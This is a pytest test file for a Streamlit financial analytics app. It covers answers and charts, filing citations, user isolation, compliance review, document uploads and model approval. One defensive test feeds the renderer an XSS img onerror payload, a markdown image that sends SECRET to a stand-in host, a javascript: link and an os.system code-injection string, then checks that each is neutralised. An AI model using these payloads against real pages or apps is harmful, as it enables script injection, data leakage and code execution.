"""Each page's logic under AppTest against the real backends over a copy of the demo data."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from app.runtime import Runtime
from app.settings import Settings

HISTORY_Q = "Show the history of JPM 20-day realized volatility in 2020"


def texts(elements) -> str:  # noqa: ANN001
    return " ".join(str(e.value) for e in elements)


def answer_html(app) -> str:  # noqa: ANN001
    """The answers on the page: the allow-listed HTML that ``render_markdown`` hands to st.html."""
    return " ".join(e.proto.body for e in app.get("html"))


def go(app, page: str):  # noqa: ANN001, ANN201
    app.query_params["page"] = page
    return app.run()


def switch_user(app, signed_in, name: str):  # noqa: ANN001, ANN201
    app.sidebar.button[0].click().run()  # sign out
    return signed_in(name)


@pytest.fixture
def rt(app_home: Path) -> Runtime:
    return Runtime(Settings(home=app_home))


@pytest.mark.slow
def test_analyst_answer_shows_badge_text_chart_evidence_and_is_recorded(
    app, signed_in, rt: Runtime
) -> None:  # noqa: ANN001
    from app.trail import TrailQuery

    signed_in("analyst")
    app.chat_input(key="question").set_value(HISTORY_Q).run()
    assert not app.exception
    assert not app.error
    shown = answer_html(app)
    assert "JPM" in shown and "realized volatility" in shown
    assert "Answered" in texts(app.markdown)  # the status badge
    assert len(app.get("vega_lite_chart")) == 1
    labels = [b.proto.label for b in app.get("download_button")]
    assert "Download chart (CSV)" in labels
    records = rt.trail.read(TrailQuery(user="analyst", kind="answer"))
    assert [r.record["question"] for r in records][-1] == HISTORY_Q
    assert records[-1].id in texts(app.caption)  # the record id is shown with the evidence
    # A follow-up keeps the conversation: both turns are on the page.
    app.chat_input(key="question").set_value("What is the 20-day realized volatility of AAPL?")
    app.run()
    assert len(app.session_state["conversation:analyst"]) == 2


@pytest.mark.slow
def test_filing_question_has_numbered_sources_read_through_entitlements(app, signed_in) -> None:  # noqa: ANN001
    signed_in("analyst")
    app.chat_input(key="question").set_value("What do the filings say about cloud services?")
    app.run()
    assert not app.exception
    sources = [e.label for e in app.expander if e.label.startswith("[")]
    assert sources and sources[0].startswith("[1] MICROSOFT_2023_10K")
    assert "the whole cited chunk" in texts(app.caption)


@pytest.mark.slow
def test_conversations_do_not_leak_between_users(app, signed_in) -> None:  # noqa: ANN001
    signed_in("analyst")
    app.chat_input(key="question").set_value(HISTORY_Q).run()
    switch_user(app, signed_in, "analyst_private")
    assert "conversation:analyst" not in app.session_state
    assert len(app.get("vega_lite_chart")) == 0


def _render_hostile() -> None:
    from app.ui.answer_view import render_answer

    render_answer(
        {
            "id": "hostile",
            "status": "flagged",
            "answer": "Revenue $5bn <img src=x onerror=alert(1)> ![](https://x.example/?q=SECRET) "
            "[click](javascript:alert(1))",
            "chart": {
                "type": "line",
                "x": "__import__('os').system('touch /tmp/sightline-pwned')",
                "y": "value",
                "data": [{"value": 1}],
            },
        },
        key="h",
    )


def test_hostile_answer_renders_inert_and_a_code_chart_is_refused() -> None:
    from streamlit.testing.v1 import AppTest

    app = AppTest.from_function(_render_hostile, default_timeout=60).run()
    assert not app.exception
    body = answer_html(app)
    assert "<p>Revenue $5bn &lt;img src=x onerror=alert(1)&gt; [image removed]" in body
    assert "x.example" not in body and "javascript" not in body.lower()
    assert "<img" not in body and "<a " not in body
    assert "Flagged" in texts(app.markdown)
    assert "The chart could not be drawn" in texts(app.caption)
    assert "removed" in texts(app.caption)
    assert not Path("/tmp/sightline-pwned").exists()
    assert len(app.get("vega_lite_chart")) == 0


def test_compliance_finds_verifies_and_reviews_an_answer(app, signed_in, rt: Runtime) -> None:  # noqa: ANN001
    from app.agent import answer
    from app.trail import TrailQuery

    asked = answer(rt, "What is the 20-day realized volatility of JPM?", rt.user("analyst"))
    signed_in("compliance")
    go(app, "trail")
    assert not app.exception and not app.error
    app.text_input(key="trail_text").input("volatility of JPM").run()
    assert app.selectbox(key="trail_record").value == asked.id
    app.button(key="trail_verify").click().run()
    assert "Chain intact" in texts(app.success)
    app.radio(key="review_status").set_value("flagged")
    app.text_area(key="review_note").input("Check the window length")
    app.button(key=f"FormSubmitter:review-{asked.id}-Record review").click().run()
    assert "Review recorded" in texts(app.success)
    reviews = rt.trail.read(TrailQuery(kind="review", refers_to=asked.id))
    assert [(r.record["user"], r.record["status"]) for r in reviews] == [("compliance", "flagged")]
    assert "Evidence pack (HTML)" in [b.proto.label for b in app.get("download_button")]


def test_compliance_may_not_review_their_own_answer(app, signed_in, rt: Runtime) -> None:  # noqa: ANN001
    from app.agent import answer

    own = answer(rt, "What is the 20-day realized volatility of JPM?", rt.user("compliance"))
    signed_in("compliance")
    go(app, "trail")
    app.selectbox(key="trail_record").set_value(own.id).run()
    app.text_area(key="review_note").input("self-review")
    app.button(key=f"FormSubmitter:review-{own.id}-Record review").click().run()
    assert "may not review their own answer" in texts(app.error)


def test_analyst_is_refused_documents_and_models_pages(app, signed_in) -> None:  # noqa: ANN001
    signed_in("analyst")
    for page in ("documents", "models", "trail"):
        go(app, page)
        assert "Access refused" in texts(app.error), page
        assert not app.get("file_uploader")


@pytest.mark.slow
def test_researcher_uploads_rejects_and_deletes(app, signed_in, rt: Runtime) -> None:  # noqa: ANN001
    signed_in("researcher")
    go(app, "documents")
    assert app.multiselect(key="upload_groups").options == ["public", "deal-team"]
    note = b"# Desk note\n\nFoundry capex guidance rose for 2024 according to the desk.\n"
    app.file_uploader(key="upload_file").upload("desk note.md", note, "text/markdown")
    app.multiselect(key="upload_groups").set_value(["deal-team"])
    app.button(key="FormSubmitter:upload-Upload and index").click().run()
    assert not app.exception
    assert "Indexed desk_note" in texts(app.success)
    doc = next(d for d in rt.documents.documents() if d["doc_name"] == "desk_note")
    assert doc["access_groups"] == ["deal-team"] and doc["uploaded_by"] == "researcher"
    # A binary renamed to .pdf is rejected plainly and nothing is indexed.
    app.file_uploader(key="upload_file").upload("renamed.pdf", b"MZ\x90\x00" + b"\x00" * 64)
    app.button(key="FormSubmitter:upload-Upload and index").click().run()
    assert "Rejected renamed.pdf" in texts(app.error)
    assert not [d for d in rt.documents.documents() if d["doc_name"] == "renamed"]
    # Delete removes it from the catalogue (and the vectors, per the index's own tests).
    app.selectbox(key="delete_doc").set_value(doc["doc_id"])
    app.checkbox(key="delete_sure").check().run()
    app.button(key="delete_button").click().run()
    assert "Deleted desk_note" in texts(app.success)
    assert not [d for d in rt.documents.documents() if d["doc_name"] == "desk_note"]


def test_upload_without_access_groups_is_refused(app, signed_in, rt: Runtime) -> None:  # noqa: ANN001
    signed_in("researcher")
    go(app, "documents")
    before = len(rt.documents.documents())
    app.file_uploader(key="upload_file").upload("untagged.md", b"# Untagged\n\nText.\n")
    app.multiselect(key="upload_groups").set_value([])
    app.button(key="FormSubmitter:upload-Upload and index").click().run()
    assert "untagged documents are refused" in texts(app.error)
    assert len(rt.documents.documents()) == before


def test_data_page_shows_the_feature_catalogue(app, signed_in) -> None:  # noqa: ANN001
    signed_in("analyst")
    go(app, "data")
    features = app.dataframe[1].value
    assert "realized_vol_20d" in set(features["name"])
    assert features["version"].str.fullmatch(r"[0-9a-f]{12}").all()


def test_models_page_roles(app, signed_in) -> None:  # noqa: ANN001
    signed_in("validator")
    go(app, "models")
    assert not app.exception and not app.error
    registry = app.dataframe[0].value
    assert set(registry["name"]) == {"risk", "pd"}
    assert set(registry["status"]) == {"approved"}
    pd_ref = next(r for r in app.selectbox(key="model_ref").options if r.startswith("pd@"))
    app.selectbox(key="model_ref").set_value(pd_ref).run()
    charts = [json.loads(c.proto.spec) for c in app.get("vega_lite_chart")]
    titles = [t["text"] if isinstance(t := c.get("title"), dict) else str(t) for c in charts]
    assert len(charts) == 2 and titles[0].startswith("Calibration"), titles
    roc = charts[1]  # next to calibration: the ROC curve and the chance diagonal, from the data
    assert titles[1].startswith("ROC on held-out loans")
    assert [layer["mark"]["type"] for layer in roc["layer"]] == ["line", "line"]
    assert roc["layer"][1]["mark"]["strokeDash"] == [4, 4]
    assert {layer["encoding"]["x"]["field"] for layer in roc["layer"]} == {"fpr"}
    served_auc = app.metric[0].value  # the registered test AUC, shown above the charts
    assert f"AUC {served_auc} (" in titles[1]  # the curve's own AUC agrees to 3 decimals
    assert app.button(key="model_approve") is not None
    switch_user(app, signed_in, "compliance")
    go(app, "models")
    assert not [b for b in app.button if b.key in ("model_approve", "model_validate")]


@pytest.mark.slow
def test_maker_checker_through_the_app(app, signed_in, app_home: Path, rt: Runtime) -> None:  # noqa: ANN001
    shutil.rmtree(app_home / "models")
    signed_in("model_owner")
    go(app, "models")
    app.selectbox(key="train_model").set_value("pd")
    app.button(key="train_button").click().run()
    assert "registered as draft" in texts(app.success)
    assert not [b for b in app.button if b.key in ("model_approve", "model_validate")]
    switch_user(app, signed_in, "validator")
    go(app, "models")
    app.button(key="model_validate").click().run()
    assert "validated by validator" in texts(app.success)
    app.button(key="model_approve").click().run()
    assert "approved by validator" in texts(app.success)
    served = rt.registry.approved("pd")
    assert (served.registered_by, served.approved_by) == ("model_owner", "validator")
